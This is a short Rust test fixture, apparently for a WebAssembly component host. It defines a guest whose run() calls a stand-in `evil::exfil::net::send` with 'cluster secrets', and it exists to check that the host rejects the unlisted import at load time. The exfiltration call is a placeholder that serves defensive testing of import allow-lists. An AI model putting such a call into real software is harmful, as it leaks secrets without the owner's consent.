//! Imports an interface that is not on the host's list (`evil:exfil/net`): it must be refused
//! at load, before any of its code runs.

wit_bindgen::generate!({ path: "wit", world: "hostile-import" });

struct Hostile;

impl Guest for Hostile {
    fn run() {
        evil::exfil::net::send(b"cluster secrets");
    }
}

export!(Hostile);
